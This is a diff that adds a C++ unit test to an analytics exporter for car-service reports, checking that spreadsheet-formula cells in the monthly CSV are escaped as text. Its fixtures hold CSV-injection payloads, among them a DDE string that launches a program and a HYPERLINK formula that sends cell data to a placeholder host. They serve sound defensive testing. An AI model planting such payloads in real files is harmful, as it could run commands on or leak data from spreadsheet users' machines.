@@ -604,6 +604,34 @@ std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
   return rows;
 }
 
+// Models, software versions and dealers' names come from cars and dealers: one that a spreadsheet
+// would run as a formula is written as text, while numbers (a negative growth) stay numbers.
+TEST(MonthlyCsv, ACellThatWouldRunAsAFormulaIsWrittenAsText) {
+  MonthlyReport r;
+  r.year = 2026;
+  r.month = 11;
+  TopEntry brakes;
+  brakes.key = "brakes";
+  brakes.count = 1;
+  brakes.previous_count = 2;
+  brakes.growth = -0.5;
+  brakes.by_model = {{"+cmd|' /C calc'!A0", 1}};
+  brakes.by_software_version = {{"=HYPERLINK(\"http://x/?\"&A2,\"open\")", 1}, {"-2+3", 1}, {"@SUM(A1)", 1}};
+  r.top_systems.push_back(brakes);
+  r.service_visits.dealers.push_back(DealerSatisfaction{"SH-001", "=1+1", 1, 5});
+  std::set<std::string> dimensions;
+  std::string growth;
+  for (const auto& row : parse_csv(render_monthly_csv(r))) {
+    ASSERT_EQ(row.size(), 7u);
+    if (!row[2].empty()) dimensions.insert(row[2]);
+    if (row[0] == "system") growth = row[5];
+  }
+  for (const char* expected : {"'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x/?\"&A2,\"open\")", "'-2+3", "'@SUM(A1)", "'=1+1"}) {
+    EXPECT_TRUE(dimensions.count(expected)) << expected;
+  }
+  EXPECT_EQ(growth, "-0.5");
+}
+
 TEST_F(AnalyticsTest, TheCsvParsesBackToTheFigures) {
   auto r = analytics_->monthly_report(2026, 11, kNow);
   ASSERT_TRUE(r);
